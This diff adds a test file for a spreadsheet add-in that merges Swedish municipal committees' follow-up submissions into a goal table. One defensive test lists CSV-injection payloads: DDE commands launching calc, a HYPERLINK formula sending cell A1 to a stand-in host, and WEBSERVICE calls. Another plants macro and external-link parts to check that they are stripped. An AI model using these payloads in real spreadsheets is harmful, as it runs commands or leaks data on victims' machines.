@@ -1,0 +1,223 @@
+import { unzipSync, zipSync, strToU8, strFromU8 } from "fflate";
+import { merge, type MergeInput } from "../../src/commands/merge";
+import { templateFiles, templates } from "../../src/commands/templates";
+import { excelWorkbook } from "../../src/excel/workbook";
+import { newSheet, setCell, setFormula, valueAt, type Sheet, type Value } from "../../src/sheet/book";
+import { readSubmissionLog, SUBMISSION_LOG_TAG } from "../../src/submissions/log";
+import { openHost, type Fault } from "../../workbench/host";
+import { bookOf, contents, fileOf, NOW, some } from "../excel/kit";
+import { cellFor, fill, type Wish } from "../submissions/mess";
+import { COMMITTEES, FIELD_COLUMN, town, type Row } from "../submissions/town";
+
+const { rows } = town();
+const row = (title: string): Row => rows.find((one) => one.title.startsWith(title))!;
+const wish = (title: string, field: Wish["field"], typed: Value, lands: Value = typed): Wish => ({ row: row(title), field, typed, lands });
+
+async function desk(...more: Sheet[]) {
+  return at(await openHost({ file: fileOf([town().sheet, ...more]), now: NOW }));
+}
+
+function at(host: Awaited<ReturnType<typeof openHost>>) {
+  const workbook = excelWorkbook(host.Excel);
+  const surroundings = { workbook, now: NOW, progress: () => undefined };
+  return {
+    host,
+    workbook,
+    surroundings,
+    async merge(input: MergeInput) {
+      const done = await merge.perform(input, surroundings);
+      if (!done.ok) throw new Error(done.reason);
+      return done.value;
+    },
+    refused: async (input: MergeInput) => {
+      const done = await merge.perform(input, surroundings);
+      return done.ok ? null : done.reason;
+    },
+    table: () => host.book.sheets[0]!,
+    value: ({ row: of, field }: Wish) => valueAt(host.book.sheets[0]!, of.row, FIELD_COLUMN[field]),
+    log: () => readSubmissionLog(host.book.sheets.find(({ tag }) => tag === SUBMISSION_LOG_TAG))?.rows ?? [],
+  };
+}
+
+/** The file of a nämnd's template, filled in. */
+async function handedIn(committee: string, wishes: Wish[], edit: (sheet: Sheet) => void = () => undefined, name = `${committee}.xlsx`) {
+  const { surroundings } = await desk();
+  const made = await templateFiles.perform({ committees: [committee] }, surroundings);
+  if (!made.ok) throw new Error(made.reason);
+  const sheet = bookOf(made.value.files[0]!.bytes).sheets[0]!;
+  fill(sheet, wishes);
+  edit(sheet);
+  return { name, bytes: fileOf([sheet]) };
+}
+
+const SOCIAL = [wish("Andel nöjda brukare", "outcome", 0.785), wish("Väntetid", "outcome", 33), wish("Äldre får", "grade", "Uppnås delvis"), wish("Äldre får", "comment", "Kön är kortare.\nFler platser.")];
+
+test("only what is accepted is written: one row is refused, the others are in the table, and the log says source, cell, before, after", async () => {
+  const file = await handedIn("Socialnämnden", SOCIAL);
+  const at = await desk();
+  const { diff } = await at.merge({ files: [file], accept: "none" });
+  expect(diff.changes.map(({ field, cell, before, after, ask }) => [field, cell, before, after, ask])).toEqual([
+    ["grade", "'Mål 2024'!H2", "", "Uppnås delvis", []],
+    ["comment", "'Mål 2024'!I2", "", "Kön är kortare.\nFler platser.", []],
+    ["outcome", "'Mål 2024'!G3", "", "78,5 %", []],
+    ["outcome", "'Mål 2024'!G4", "", "33 dagar", []],
+  ]);
+  const accept = diff.changes.filter(({ field }) => field !== "grade").map(({ id }) => id);
+  const { written } = await at.merge({ files: [file], accept });
+  expect(written).toEqual(accept);
+  expect(SOCIAL.map(at.value)).toEqual([0.785, 33, null, "Kön är kortare.\nFler platser."]);
+  expect(at.log().map(({ source, cell, before, after, done }) => [source, cell, before, after, done])).toEqual([
+    ["Socialnämnden.xlsx 'Mall Socialnämnden'!I13", "'Mål 2024'!I2", "", "Kön är kortare.\nFler platser.", "2026-01-01 12:00"],
+    ["Socialnämnden.xlsx 'Mall Socialnämnden'!G14", "'Mål 2024'!G3", "", "78,5 %", "2026-01-01 12:00"],
+    ["Socialnämnden.xlsx 'Mall Socialnämnden'!G15", "'Mål 2024'!G4", "", "33 dagar", "2026-01-01 12:00"],
+  ].map(([source, ...rest]) => [expect.stringContaining("Socialnämnden.xlsx"), ...rest.map((text) => (text === "2026-01-01 12:00" ? expect.stringMatching(/^2026-01-01 /) : text))]));
+});
+
+test("taken back, the table is as it was, and the log says that the values are not in it", async () => {
+  const at = await desk();
+  const before = contents(at.table());
+  await at.merge({ files: [await handedIn("Socialnämnden", SOCIAL)], accept: "all" });
+  expect(contents(at.table())).not.toEqual(before);
+  expect((await at.workbook.restore(at.workbook.undo()!)).left).toEqual([]);
+  expect(contents(at.table())).toEqual(before);
+  expect(at.log().map(({ done }) => done)).toEqual(["", "", "", ""]);
+});
+
+test("handed in a second time, nothing is left to write", async () => {
+  const file = await handedIn("Socialnämnden", SOCIAL);
+  const at = await desk();
+  await at.merge({ files: [file], accept: "all" });
+  const again = await at.merge({ files: [file], accept: "all" });
+  expect([again.diff.changes, again.diff.unchanged, again.written, at.log().length]).toEqual([[], 4, [], 4]);
+});
+
+describe("what a person must choose is never among all", () => {
+  const CASES: { name: string; wishes: Wish[]; edit?: (sheet: Sheet) => void; why: RegExp }[] = [
+    { name: "another period", wishes: [SOCIAL[1]!], edit: (sheet) => top(sheet, "Period", "delår 2024"), why: /gäller delår 2024, inte 2024/ },
+    { name: "another version of the plan", wishes: [SOCIAL[1]!], edit: (sheet) => top(sheet, "Planversion", "V-00000"), why: /planversion V-00000/ },
+    { name: "a nämnd that is not in the plan", wishes: [SOCIAL[1]!], edit: (sheet) => top(sheet, "Nämnd", "Valnämnden"), why: /Det framgår inte vilken nämnd|Raden hör till Socialnämnden/ },
+    { name: "a grade that is not on the scale", wishes: [wish("Äldre får", "grade", "Jättebra")], why: /finns inte på skalan/ },
+    { name: "two values in one cell", wishes: [wish("Väntetid", "outcome", "33 (41)")], why: /mer än ett tal/ },
+    { name: "a word where a number belongs", wishes: [wish("Väntetid", "outcome", "kort")], why: /är inget tal/ },
+    { name: "a bound", wishes: [wish("Väntetid", "outcome", "< 30")], why: /kan inte läsas säkert/ },
+    { name: "80 where the cell shows percent", wishes: [{ ...wish("Andel nöjda brukare", "outcome", 80), format: "0 %" }], why: /Jämför med målet/ },
+  ];
+  test.each(CASES)("$name", async ({ wishes, edit, why }) => {
+    const at = await desk();
+    const { diff, written } = await at.merge({ files: [await handedIn("Socialnämnden", wishes, edit)], accept: "all" });
+    expect(diff.changes).toHaveLength(1);
+    expect(diff.changes[0]!.ask.join(" ")).toMatch(why);
+    expect([written, at.log()]).toEqual([[], []]);
+    const chosen = await at.merge({ files: [await handedIn("Socialnämnden", wishes, edit)], accept: [diff.changes[0]!.id] });
+    expect(chosen.written).toEqual([diff.changes[0]!.id]);
+  });
+
+  test("two nämnder that say different things of one cell", async () => {
+    const at = await desk();
+    const files = [await handedIn("Socialnämnden", [SOCIAL[1]!]), await handedIn("Socialnämnden", [wish("Väntetid", "outcome", 35)], (sheet) => top(sheet, "Nämnd", "Miljönämnden"), "miljö.xlsx")];
+    const { diff } = await at.merge({ files, accept: "all" });
+    expect(diff.changes.map(({ ask }) => ask.some((why) => why.startsWith("Flera säger olika: Socialnämnden (Socialnämnden.xlsx) säger ”33 dagar”, Miljönämnden (miljö.xlsx) säger ”35 dagar”")))).toEqual([true, true]);
+    expect(await at.refused({ files, accept: diff.changes.map(({ id }) => id) })).toBe("Två godkända ändringar gäller 'Mål 2024'!G4: ”33 dagar” och ”35 dagar”. Välj en av dem.");
+  });
+
+  test("a formula in the table's cell is replaced only when that is chosen", async () => {
+    const at = await desk();
+    setFormula(at.table(), row("Väntetid").row, FIELD_COLUMN.outcome, "=40+1", 41);
+    const { diff } = await at.merge({ files: [await handedIn("Socialnämnden", [SOCIAL[1]!])], accept: "all" });
+    expect(diff.changes[0]!.ask).toEqual(["I 'Mål 2024'!G4 står en formel, som ersätts av värdet."]);
+    expect((await at.merge({ files: [await handedIn("Socialnämnden", [SOCIAL[1]!])], accept: [diff.changes[0]!.id] })).written).toHaveLength(1);
+    expect([at.value(SOCIAL[1]!), at.table().formulas.size]).toEqual([33, 0]);
+    await at.workbook.restore(at.workbook.undo()!);
+    expect(at.table().formulas.get(row("Väntetid").row * 16_384 + FIELD_COLUMN.outcome)).toBe("=40+1");
+  });
+});
+
+const top = (sheet: Sheet, label: string, said: string): void => setCell(sheet, sheet.values.findIndex((cells) => cells?.[0] === label), 2, said);
+
+describe("nothing in a submission becomes active", () => {
+  /** OWASP, CSV injection: what spreadsheet programs run, look up or fetch when it is typed into a cell. */
+  const TEXTS = ["=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.invalid?x=\"&A1,\"Klicka\")", "=WEBSERVICE(\"http://example.invalid\")", "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "='[bok.xlsx]Blad1'!A1", "\t=1+1", "\r=1+1", "＝1+1", "'=1+1", "- först en punkt\n- sedan en till"];
+
+  test.each(TEXTS)("the text %j is kept as text", async (said) => {
+    const comment = wish("Äldre får", "comment", said);
+    const at = await desk();
+    await at.merge({ files: [await handedIn("Socialnämnden", [comment])], accept: "all" });
+    const saved = bookOf(at.host.save());
+    for (const sheet of [at.table(), saved.sheets[0]!]) {
+      expect(sheet.formulas.size).toBe(0);
+      expect(valueAt(sheet, comment.row.row, FIELD_COLUMN.comment)).toBe(said.replace(/\r\n?/g, "\n").trim());
+    }
+    for (const { formulas } of saved.sheets) expect(formulas.size).toBe(0);
+  });
+
+  test("a text that is wholly a number is a number", async () => {
+    const at = await desk();
+    const outcome = wish("Resultat i andel", "outcome", "-2,5");
+    const { diff } = await at.merge({ files: [await handedIn("Kommunstyrelsen", [outcome])], accept: "all" });
+    expect([diff.changes[0]!.after, at.value(outcome)]).toEqual(["−2,5 %", -0.025]);
+  });
+
+  test("formulas, links to other books, connections, macros and embedded objects stay in the submission", async () => {
+    const file = await handedIn("Socialnämnden", [{ ...SOCIAL[1]!, formula: "=HYPERLINK(\"http://example.invalid\",33)" }, SOCIAL[3]!]);
+    const parts = unzipSync(file.bytes);
+    const added = { "xl/vbaProject.bin": "makro", "xl/connections.xml": '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>', "xl/externalLinks/externalLink1.xml": '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>', "xl/embeddings/oleObject1.bin": "objekt" };
+    for (const [name, text] of Object.entries(added)) parts[name] = strToU8(text);
+    const at = await desk();
+    const { diff } = await at.merge({ files: [{ name: "farlig.xlsm", bytes: zipSync(parts) }], accept: "all" });
+    expect(diff.changes.map(({ after, notes }) => [after, notes.length])).toEqual([["Kön är kortare.\nFler platser.", 0], ["33 dagar", 1]]);
+    const saved = unzipSync(at.host.save());
+    expect(Object.keys(saved).filter((name) => name in added || /external|connection|vba|embed|drawing/i.test(name))).toEqual([]);
+    expect(Object.values(saved).map((bytes) => strFromU8(bytes)).filter((text) => /<f[ >]|HYPERLINK|example\.invalid/.test(text))).toEqual([]);
+  });
+});
+
+describe("if Excel fails, the table is old or new or the log says so, and the next run mends it", () => {
+  if (process.env["MALTAVLAN_FULL"]) jest.setTimeout(1_800_000);
+  const wishes = COMMITTEES.slice(0, 1).flatMap(() => SOCIAL);
+
+  async function survives(fault: Fault, file: { name: string; bytes: Uint8Array }): Promise<void> {
+    const host = await openHost({ file: fileOf([town().sheet]), now: NOW, faults: [fault] });
+    const at = withHost(host);
+    await expect(merge.perform({ files: [file], accept: "all" }, at.surroundings)).rejects.toBeDefined();
+    host.faults.length = 0;
+    const there = wishes.map((one) => at.value(one) === one.lands);
+    for (const [i, one] of wishes.entries()) if (!there[i]) expect(at.value(one)).toBeNull();
+    const logged = at.log();
+    if (there.includes(true)) expect(logged).toHaveLength(wishes.length);
+    if (logged.some(({ done }) => done !== "")) expect(there).toEqual(wishes.map(() => true));
+    const again = withHost(host);
+    await again.merge({ files: [file], accept: "all" });
+    expect(wishes.map(again.value)).toEqual(wishes.map(({ lands }) => lands));
+    const cells = new Set(again.log().filter(({ done }) => done !== "").map(({ cell }) => cell));
+    if (again.log().length > 0 && !there.every(Boolean)) expect(cells.size).toBe(wishes.length);
+  }
+  const withHost = at;
+
+  test("at every request and action", async () => {
+    const file = await handedIn("Socialnämnden", wishes);
+    const clean = await desk();
+    await clean.merge({ files: [file], accept: "all" });
+    const { count, actions } = clean.host.requests;
+    for (let request = 1; request <= count; request++) await survives({ request, code: "ServiceNotAvailable" }, file);
+    for (const action of some(actions, 12)) await survives({ action, code: "GeneralException" }, file);
+  });
+});
+
+test("a bad file is named, and the good ones are read", async () => {
+  const at = await desk();
+  const { skipped, diff } = await at.merge({ files: [{ name: "gammal.xls", bytes: new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]) }, await handedIn("Socialnämnden", [SOCIAL[1]!]), { name: "prat.xlsx", bytes: fileOf([Object.assign(newSheet("Prat"), { values: [["Hej"]] })]) }], accept: "none" });
+  expect(skipped.map(({ source, sheet }) => [source, sheet])).toEqual([["gammal.xls", undefined], ["prat.xlsx", "Prat"]]);
+  expect(diff.changes).toHaveLength(1);
+});
+
+test("templates in the workbook that nobody has written in are no submissions; those that are written in are read where they stand", async () => {
+  const at = await desk();
+  await templates.perform({}, at.surroundings);
+  expect((await at.merge({ accept: "none" })).diff.handings).toEqual([]);
+  const mine = at.host.book.sheets.find(({ tag }) => tag === "mall:socialnämnden")!;
+  setCell(mine, ...cellFor(mine, row("Väntetid").title, "outcome"), 33);
+  const { diff, reminders } = await at.merge({ accept: "all" });
+  expect([diff.handings.map(({ committee, source }) => [committee, source]), at.value(SOCIAL[1]!)]).toEqual([[["Socialnämnden", ""]], 33]);
+  expect(reminders).toContain("Vi har inte fått in någon uppföljning för 2024 från Miljönämnden.");
+  expect(reminders).not.toContain("Väntetid");
+});
